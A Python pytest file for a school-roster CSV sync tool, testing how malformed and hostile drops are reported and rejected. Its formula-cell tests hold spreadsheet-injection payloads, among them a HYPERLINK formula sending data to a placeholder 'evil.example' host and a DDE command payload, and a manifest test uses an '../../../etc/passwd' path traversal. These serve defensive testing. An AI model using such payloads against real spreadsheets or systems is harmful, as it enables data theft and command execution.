"""Hostile and broken CSV drops (issue #9), each synced through `rostersync sync` on SQLite and PostgreSQL.

The rule every test checks is the README's ("How a sync decides"): a file that cannot be read at all fails
the run with an error naming the file and line, and the directory is exactly as it was (a directory
export before equals the one after); a bad row or record is reported with file, line, record and field
where they exist, it is neither created nor changed, and the rest of the drop applies.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import tracemalloc
from pathlib import Path

import pytest

from connectors.sftp.drop_writer import write_clever_drop, write_oneroster_drop
from sync.synthetic import generate_district

ROSTER = generate_district(12, seed=3)  # one school, 12 students, 18 guardians, 42 classes
CLASS = "c-000001"  # renamed in the drop of the failing runs: proof that nothing of it was applied
FIRST_CLASS = next(e.classroom_id for e in ROSTER.enrollments if e.user_id == "s-000001")


# ------------------------------------------------------------------------------------------------ helpers
def export(cli, slug: str = "maple") -> dict:
    return cli.json("directory", "export", slug, "--format", "json")


def by_id(data: dict, kind: str) -> dict[str, dict]:
    return {r["external_id"]: r for r in data[kind]}


def links(data: dict) -> set[tuple[str, str]]:
    """(guardian external id, student external id) of every guardian link."""
    guardians = {g["id"]: g["external_id"] for g in data["guardians"]}
    students = {s["id"]: s["external_id"] for s in data["students"]}
    return {(guardians[l["guardian_id"]], students[l["student_id"]]) for l in data["links"]}


def sync(cli, slug: str = "maple", code: int = 0) -> dict:
    return json.loads(cli("sync", slug, "--json", code=code).stdout)


def problems(report: dict) -> list[dict]:
    return report["errors"] + report["warnings"]


def line_of(path: Path, sourced_id: str) -> int:
    """The physical line (header = 1) of the row whose first cell is ``sourced_id``."""
    for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
        if line.split(",", 1)[0] == sourced_id:
            return number
    raise AssertionError(f"{sourced_id} not in {path.name}")


def append(path: Path, *rows: dict[str, str]) -> list[int]:
    """Append rows given as {column: value} (other cells blank); returns their line numbers."""
    with path.open(encoding="utf-8", newline="") as fh:
        header = next(csv.reader(fh))
    first = len(path.read_text(encoding="utf-8").splitlines()) + 1
    with path.open("a", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows([[row.get(c, "") for c in header] for row in rows])
    return list(range(first, first + len(rows)))


def replace_in(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, (path.name, old)
    path.write_text(text.replace(old, new), encoding="utf-8", newline="")


def user(sid: str, role: str, given: str, family: str, **more: str) -> dict[str, str]:
    return {"sourcedId": sid, "enabledUser": "true", "orgSourcedIds": "sch-001", "role": role, "username": sid,
            "givenName": given, "familyName": family, **more}


@pytest.fixture
def drop(tmp_path) -> Path:
    folder = tmp_path / "drop"
    write_oneroster_drop(ROSTER, folder)
    return folder


@pytest.fixture
def synced(cli, drop) -> Path:
    """A district synced once from the clean drop; returns the drop folder, for the test to spoil."""
    cli("district", "add", "maple", "--name", "Maple", "--source", "oneroster-csv", "--path", drop)
    assert sync(cli)["status"] == "succeeded"
    return drop


# --------------------------------------------------------------------------------- files that cannot be read
def _utf16(path: Path) -> None:
    path.write_bytes(path.read_text(encoding="utf-8").encode("utf-16"))


def _utf16_without_bom(path: Path) -> None:
    path.write_bytes(path.read_text(encoding="utf-8").encode("utf-16-le"))


def _latin1(path: Path) -> None:
    replace_in(path, "Linh", "Linh José")  # line 3; é is one byte in Latin-1, which UTF-8 cannot start with
    path.write_bytes(path.read_text(encoding="utf-8").encode("latin-1"))


def _nul(path: Path) -> None:
    path.write_bytes(path.read_bytes().replace(b"Amelia,Bailey", b"Ame\x00lia,Bailey", 1))  # line 4


def _ten_mb_cell(path: Path) -> None:
    replace_in(path, "Maverick", '"' + "M" * 10_000_000 + '"')  # line 5


def _ten_mb_cell_over_many_lines(path: Path) -> None:
    replace_in(path, "Maverick", '"' + "M\n" * 5_000_000 + '"')  # starts on line 5


UNREADABLE = [
    # (file spoiled, how, line named, words of the error)
    ("users.csv", _utf16, 1, "is UTF-16 text, not UTF-8"),
    ("users.csv", _utf16_without_bom, 1, "contains a NUL byte"),
    ("manifest.csv", _utf16, 1, "is UTF-16 text, not UTF-8"),
    ("users.csv", _latin1, 3, "is not valid UTF-8"),
    ("users.csv", _nul, 4, "contains a NUL byte"),
    ("users.csv", _ten_mb_cell, 5, "longer than 1048576 characters"),
    ("users.csv", _ten_mb_cell_over_many_lines, 5, "runs on for more than 131072 characters"),
]


def test_a_file_that_is_not_utf8_text_fails_the_run_naming_file_and_line_and_changes_nothing(cli, synced):
    before = export(cli)
    replace_in(synced / "classes.csv", "Kindergarten Homeroom (1)", "Renamed Homeroom")
    for name, spoil, line, words in UNREADABLE:
        original = (synced / name).read_bytes()
        spoil(synced / name)
        result = cli("sync", "maple", "--json", code=1)
        report = json.loads(result.stdout)
        assert report["status"] == "failed" and report["directory_state"] == "failed", spoil.__name__
        [error] = report["errors"]
        assert (error["code"], error["file"], error["line"]) == ("drop_csv_format_error", name, line), error
        assert words in error["message"], error
        assert len(result.stdout) < 20_000  # the 10 MB cell is not copied into the report
        assert export(cli) == before, spoil.__name__
        (synced / name).write_bytes(original)
    # The same drop, unspoiled, does apply: the rename above was there all along.
    assert sync(cli)["status"] == "succeeded"
    assert by_id(export(cli), "classrooms")[CLASS]["name"] == "Renamed Homeroom"


def test_byte_order_marks_are_read_like_plain_utf8(cli, drop):
    for path in drop.glob("*.csv"):
        path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())  # Excel's "CSV UTF-8" starts every file so
    cli("district", "add", "maple", "--name", "Maple", "--source", "oneroster-csv", "--path", drop)
    report = sync(cli)
    assert report["status"] == "succeeded" and problems(report) == []
    students = by_id(export(cli), "students")
    assert set(students) == {s.external_id for s in ROSTER.students}
    assert students["s-000001"]["given_name"] == ROSTER.students[0].given_name


def test_a_ten_mb_cell_is_refused_without_being_read_into_memory(drop):
    from connectors.sftp.csv_reader import DropError
    from connectors.sftp.oneroster_csv import read_oneroster_drop

    _ten_mb_cell(drop / "users.csv")
    tracemalloc.start()
    try:
        with pytest.raises(DropError, match="users.csv, line 5"):
            read_oneroster_drop(drop)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 8_000_000  # a reader holding the cell would need 10 MB of bytes and as much text


# ------------------------------------------------------------------------------------ values the directory cannot hold
def test_a_value_too_long_for_the_directory_skips_its_record_and_the_rest_applies(cli, synced):
    # Under the CSV reader's limits, over the directory's column sizes. PostgreSQL used to refuse the
    # whole run at the first such value ("unexpected StringDataRightTruncation", quoting the name) while
    # SQLite stored it; now both skip the record and say why.
    users = synced / "users.csv"
    before = by_id(export(cli), "students")
    replace_in(users, "Linh,Ortiz", "Linh," + "O" * 5000)                         # s-000002: family name
    replace_in(users, "Leo,Kowalski,,700012,,,,,1,", "Leo,Kowalski,,700012,,,,,TransitionalKindergartenExtended+,")
    replace_in(users, "Aisha,Wright", "Aisha,Wright-Renamed")                    # an ordinary change
    append(users, user("s-900001", "student", "N" * 101, "New"))                # a new student, too long
    report = sync(cli)
    assert report["status"] == "succeeded"
    found = {(p["code"], p["severity"], p.get("record"), p.get("field")) for p in problems(report)}
    assert ("value_too_long", "error", "s-000002", "family_name") in found
    assert ("value_too_long", "error", "s-900001", "given_name") in found
    assert ("value_too_long", "warning", "s-000012", "grade") in found
    too_long = next(p for p in report["errors"] if p.get("record") == "s-000002")
    assert too_long["file"] == "users.csv" and "more than the 100 the directory keeps" in too_long["message"]
    assert "OOOOOOOOOO" not in json.dumps(report)  # names stay out of reports
    students = by_id(export(cli), "students")
    assert students["s-000002"] == before["s-000002"]            # neither changed nor archived
    assert "s-900001" not in students                            # not created
    assert students["s-000012"]["grade"] is None                 # kept, without the grade
    assert students["s-000007"]["family_name"] == "Wright-Renamed"  # the rest applied


# ------------------------------------------------------------------------------------------------ duplicate ids
def test_a_sourced_id_twice_keeps_the_first_row_and_reports_the_second(cli, synced):
    users = synced / "users.csv"
    first = line_of(users, "s-000004")
    again, as_guardian = append(
        users,
        user("s-000004", "student", "Impostor", "Brown", identifier="799004"),
        # a guardian whose id is a student's: in OneRoster both live in users.csv, so it is the same id twice
        user("s-000005", "parent", "Gemma", "Brown", email="gemma.brown@example.org", agentSourcedIds="s-000004"))
    class_again = append(synced / "classes.csv", {"sourcedId": CLASS, "title": "Impostor class",
                                                  "courseSourcedId": "rostersync-course-sch-001",
                                                  "classType": "scheduled", "schoolSourcedId": "sch-001",
                                                  "termSourcedIds": "rostersync-year"})[0]
    report = sync(cli)
    assert report["status"] == "succeeded"
    dupes = {(p["file"], p["line"], p["record"]): p["message"] for p in report["errors"] if p["code"] == "duplicate_id"}
    assert set(dupes) == {("users.csv", again, "s-000004"), ("users.csv", as_guardian, "s-000005"),
                          ("classes.csv", class_again, CLASS)}
    assert f"also on line {first}" in dupes[("users.csv", again, "s-000004")]
    data = export(cli)
    assert by_id(data, "students")["s-000004"]["given_name"] == "Maverick"
    assert "s-000005" in by_id(data, "students") and "s-000005" not in by_id(data, "guardians")
    assert by_id(data, "classrooms")[CLASS]["name"] == "Kindergarten Homeroom (1)"
    assert len(by_id(data, "students")) == len(ROSTER.students)


def test_one_id_used_by_a_school_a_class_a_course_and_a_student_is_one_record_of_each_kind(cli, drop):
    # sourcedIds are unique per file, not across files: "42" may name an org, a class and a user at once.
    for path in drop.glob("*.csv"):
        text = path.read_text(encoding="utf-8")
        text = text.replace("sch-001", "42").replace("rostersync-course-42", "42")
        text = text.replace(FIRST_CLASS, "42").replace("s-000001", "42")
        path.write_text(text, encoding="utf-8", newline="")
    cli("district", "add", "maple", "--name", "Maple", "--source", "oneroster-csv", "--path", drop)
    report = sync(cli)
    assert report["status"] == "succeeded" and report["errors"] == []
    data = export(cli)
    school, classroom, student = (by_id(data, kind)["42"] for kind in ("schools", "classrooms", "students"))
    assert classroom["school_id"] == school["id"] == student["school_id"]
    assert student["id"] in classroom["student_ids"] and classroom["id"] in student["classroom_ids"]
    assert ("g-000001", "42") in links(data)
    assert len(data["students"]) == len(ROSTER.students)


def test_clever_contact_ids_and_student_ids_are_separate_namespaces(cli, tmp_path):
    # In a Clever drop a contact's Contact_sis_id and a student's Student_id come from different tables of
    # the SIS and may coincide: the same value is a guardian and a student, two different people.
    student = ROSTER.students[5].external_id  # s-000006, not a child of guardian g-000001
    guardians = [dataclasses.replace(g, external_id=student) if g.external_id == "g-000001" else g
                 for g in ROSTER.guardians]
    write_clever_drop(dataclasses.replace(ROSTER, guardians=guardians), tmp_path / "clever")
    cli("district", "add", "oak", "--name", "Oak", "--source", "clever-csv", "--path", tmp_path / "clever")
    report = sync(cli, "oak")
    assert report["status"] == "succeeded" and report["errors"] == []
    data = export(cli, "oak")
    assert by_id(data, "guardians")[student]["email"] == "naomi.ortiz1@example.org"
    assert by_id(data, "students")[student]["given_name"] == "Maria"
    assert {s for g, s in links(data) if g == student} == {"s-000001", "s-000002"}


# --------------------------------------------------------------------------------------- cycles in guardian links
def test_agents_naming_themselves_or_each_other_link_nobody_wrongly(cli, synced):
    users = synced / "users.csv"
    self_line, a_line, b_line, s_line, _ = append(
        users,
        user("g-900001", "parent", "Selma", "Self", email="selma@example.org", agentSourcedIds="g-900001,s-000003"),
        user("g-900002", "parent", "Ann", "Loop", email="ann.loop@example.org", agentSourcedIds="g-900003,s-000003"),
        user("g-900003", "parent", "Bob", "Loop", email="bob.loop@example.org", agentSourcedIds="g-900002,s-000003"),
        user("s-900001", "student", "Cy", "Loop", identifier="799101", agentSourcedIds="s-900002"),
        user("s-900002", "student", "Di", "Loop", identifier="799102", agentSourcedIds="s-900001"))
    # an org that is its own grandparent: the school lookup must end, and the student is reported
    append(synced / "orgs.csv", {"sourcedId": "dept-a", "name": "A", "type": "department", "parentSourcedId": "dept-b"},
           {"sourcedId": "dept-b", "name": "B", "type": "department", "parentSourcedId": "dept-a"})
    [orphan_line] = append(users, user("s-900003", "student", "Ori", "Phan", identifier="799103",
                                       orgSourcedIds="dept-a"))
    report = sync(cli)
    assert report["status"] == "succeeded"
    found = {(p["code"], p["line"], p["record"]) for p in problems(report) if p.get("file") == "users.csv"}
    assert ("agent_self", self_line, "g-900001") in found
    assert {("agent_not_student", a_line, "g-900002"), ("agent_not_student", b_line, "g-900003"),
            ("agent_not_guardian", s_line, "s-900001")} <= found
    assert ("no_school", orphan_line, "s-900003") in found
    data = export(cli)
    linked = links(data)
    assert {s for g, s in linked if g in ("g-900001", "g-900002", "g-900003")} == {"s-000003"}
    assert not {(g, s) for g, s in linked if g == s}
    assert "s-900003" not in by_id(data, "students") and "s-900001" in by_id(data, "students")


def test_users_with_a_student_and_a_parent_role_never_become_their_own_or_each_others_guardian(cli, tmp_path):
    # OneRoster 1.2 gives a user several roles; then agentSourcedIds cannot say which way round it means.
    drop = tmp_path / "drop"
    write_oneroster_drop(ROSTER, drop, "1.2")
    users, roles = drop / "users.csv", drop / "roles.csv"
    lines = append(users, *({"sourcedId": sid, "enabledUser": "true", "username": sid, "givenName": given,
                             "familyName": "Dual", "identifier": number, "email": f"{sid}@example.org",
                             "agentSourcedIds": agents, "grades": "12"}
                            for sid, given, number, agents in (("x-1", "Sam", "799201", "x-1,s-000003"),
                                                               ("x-2", "Ann", "799202", "x-3"),
                                                               ("x-3", "Bob", "799203", "x-2"))))
    both = (("primary", "student"), ("secondary", "parent"))
    append(roles, *({"sourcedId": f"r-{sid}-{role}", "userSourcedId": sid, "roleType": kind, "role": role,
                     "orgSourcedId": "sch-001"} for sid in ("x-1", "x-2", "x-3") for kind, role in both))
    cli("district", "add", "maple", "--name", "Maple", "--source", "oneroster-csv", "--path", drop)
    report = sync(cli)
    assert report["status"] == "succeeded"
    found = {(p["code"], p["line"], p["record"], p["field"]) for p in report["warnings"]
             if p.get("file") == "users.csv"}
    assert ("agent_self", lines[0], "x-1", "agentSourcedIds") in found
    assert ("agent_cycle", lines[1], "x-2", "agentSourcedIds") in found
    cycle = next(p for p in report["warnings"] if p["code"] == "agent_cycle")
    assert "links x-2 and x-3" in cycle["message"] and "neither link is used" in cycle["message"]
    data = export(cli)
    linked = links(data)
    assert ("x-1", "s-000003") in linked                  # what x-1's agents can only mean
    assert not {(g, s) for g, s in linked if g == s}        # nobody is their own guardian
    assert not {(g, s) for g, s in linked if {g, s} == {"x-2", "x-3"}}
    assert {"x-1", "x-2", "x-3"} <= set(by_id(data, "students"))


# ------------------------------------------------------------------------------------------------ formula cells
FORMULAS = {"s-000001": '=HYPERLINK("http://evil.example/?"&A1,"click")', "s-000002": "+1+1",
            "s-000003": "-2+3", "s-000004": "@SUM(A1:A9)", "s-000006": "Ann;=1+1"}


def csv_cell(value: str) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="").writerow([value])
    return out.getvalue()


def runnable(cell: str) -> bool:
    """Would a spreadsheet run this cell as a formula (after trimming blanks, as some importers do)?"""
    text = cell.lstrip(" ")
    if text[:1] not in ("=", "+", "-", "@", "\t", "\r"):
        return False
    try:
        float(text)  # -12.5, or a phone number in E.164 (+12015550123): data that a spreadsheet keeps
        return False
    except ValueError:
        return True


def test_formula_cells_are_stored_as_data_and_neutralised_in_every_csv_the_product_writes(cli, drop):
    users = drop / "users.csv"
    for student in ROSTER.students:
        if student.external_id in FORMULAS:
            replace_in(users, f",{student.external_id},,{student.given_name},",
                       f",{student.external_id},,{csv_cell(FORMULAS[student.external_id])},")
    replace_in(users, "Naomi,Ortiz", "@cmd|' /C calc'!A0,Ortiz")  # a guardian, g-000001
    cli("district", "add", "maple", "--name", "Maple", "--source", "oneroster-csv", "--path", drop)
    assert sync(cli)["errors"] == []

    data = export(cli)  # stored exactly as the SIS sent them: they are names, not code
    assert {sid: by_id(data, "students")[sid]["given_name"] for sid in FORMULAS} == FORMULAS
    assert by_id(data, "guardians")["g-000001"]["given_name"] == "@cmd|' /C calc'!A0"

    directory_csv = cli("directory", "export", "maple", "--format", "csv").stdout
    report_csv = cli("report", "maple", "--format", "csv").stdout
    for text, column in ((directory_csv, "given_name"), (report_csv, "name")):
        rows = list(csv.DictReader(io.StringIO(text)))
        assert not [cell for row in rows for cell in row.values() if cell and runnable(cell)], column
        shown = {row[column] for row in rows}
        for name in FORMULAS.values():
            prefixed = "'" + name if runnable(name) else name
            assert any(value == prefixed or value.startswith(prefixed + " ") for value in shown), (column, name)
        # A separator inside a cell cannot start a new cell in a spreadsheet set to ";" (much of Europe):
        # every data cell is quoted, so "Ann;=1+1" stays one cell there too.
        assert '"Ann;=1+1' in text and ",Ann;=1+1" not in text
    naomi = [r for r in csv.DictReader(io.StringIO(directory_csv)) if r["guardian_external_id"] == "g-000001"]
    assert naomi and {r["guardian_name"] for r in naomi} == {"'@cmd|' /C calc'!A0 Ortiz"}


@pytest.mark.parametrize("cell, shown", [(" =1+1", "' =1+1"), ("\u00a0@SUM(A1)", "'\u00a0@SUM(A1)"),
                                         ("-12.5", "-12.5"), ("+12015550123", "+12015550123"),
                                         ("Ann-Marie", "Ann-Marie")])
def test_blanks_before_a_formula_do_not_hide_it_and_numbers_stay_numbers(cell, shown):
    # The sync strips names, so these reach a CSV only from other paths (a manual add, a report message);
    # some importers trim a cell before they look for a formula in it.
    from directory.csvsafe import neutralize

    assert neutralize(cell) == shown


# ------------------------------------------------------------------------------------------- manifest and dates
def test_a_manifest_naming_missing_files_fails_the_run_and_changes_nothing(cli, synced):
    before = export(cli)
    replace_in(synced / "classes.csv", "Kindergarten Homeroom (1)", "Renamed Homeroom")
    demographics = (synced / "demographics.csv").read_bytes()
    (synced / "demographics.csv").unlink()  # the manifest still says file.demographics,bulk
    report = sync(cli, code=1)
    assert report["status"] == "failed" and "demographics.csv" in report["errors"][0]["message"]
    assert export(cli) == before
    # A manifest naming a path outside the folder: never looked for there, and the drop is not taken.
    (synced / "demographics.csv").write_bytes(demographics)
    with (synced / "manifest.csv").open("a", encoding="utf-8") as fh:
        fh.write("file.../../../etc/passwd,bulk\n")
    report = sync(cli, code=1)
    assert "../../../etc/passwd.csv (listed in manifest.csv as bulk)" in report["errors"][0]["message"]
    assert export(cli) == before


def test_dates_in_wrong_formats_are_reported_and_the_rows_still_used(cli, drop):
    replace_in(drop / "demographics.csv", "s-000001,,,2018-10-20", "s-000001,,,13/31/2010")
    replace_in(drop / "users.csv", "s-000002,,,true", "s-000002,,garbage,true")
    cli("district", "add", "maple", "--name", "Maple", "--source", "oneroster-csv", "--path", drop)
    report = sync(cli)
    assert report["status"] == "succeeded"
    birth = next(p for p in problems(report) if p.get("field") == "birthDate")
    assert (birth["file"], birth["line"], birth["record"], birth["code"]) == ("demographics.csv", 2, "s-000001",
                                                                            "invalid_date")
    assert "13/31/2010" not in json.dumps(report)  # a birth date is personal: never in a report
    modified = next(p for p in problems(report) if p.get("field") == "dateLastModified")
    assert (modified["file"], modified["line"], modified["record"], modified["severity"]) == (
        "users.csv", 3, "s-000002", "warning")
    students = by_id(export(cli), "students")
    assert students["s-000001"]["birth_date"] is None and students["s-000001"]["given_name"] == "Sean"
    assert students["s-000002"]["birth_date"] == "2008-07-12"


def test_a_bad_date_on_a_known_student_keeps_what_the_directory_holds(cli, synced):
    """README: a record whose row had an error is neither changed nor archived. A mistyped birth date must not
    erase the one stored (nor apply the row's other changes, which come from a row known to be wrong)."""
    replace_in(synced / "demographics.csv", "s-000001,,,2018-10-20", "s-000001,,,13/31/2010")
    replace_in(synced / "users.csv", ",Sean,", ",Shaun,")
    report = sync(cli)
    assert report["status"] == "succeeded"
    assert any(p.get("record") == "s-000001" and p.get("field") == "birthDate" for p in report["errors"])
    student = by_id(export(cli), "students")["s-000001"]
    assert (student["birth_date"], student["given_name"], student["status"]) == ("2018-10-20", "Sean", "active")


# ------------------------------------------------------------------------------------------ the limits themselves
def test_the_length_limits_are_the_directory_columns():
    from connectors.fit import LIMITS, LINK_LIMITS
    from directory import models

    tables = {"schools": models.School, "teachers": models.Teacher, "classrooms": models.Classroom,
              "students": models.Student, "guardians": models.Guardian}
    for kind, limits in LIMITS.items():
        for name, size, _required in limits:
            assert tables[kind].__table__.c[name].type.length == size, (kind, name)
    for name, size in LINK_LIMITS:
        assert models.GuardianLink.__table__.c[name].type.length == size, name
    # Clever's longest grade name fits (migration 0006 widened the column from 16)
    assert models.Student.__table__.c["grade"].type.length >= len("TransitionalKindergarten")
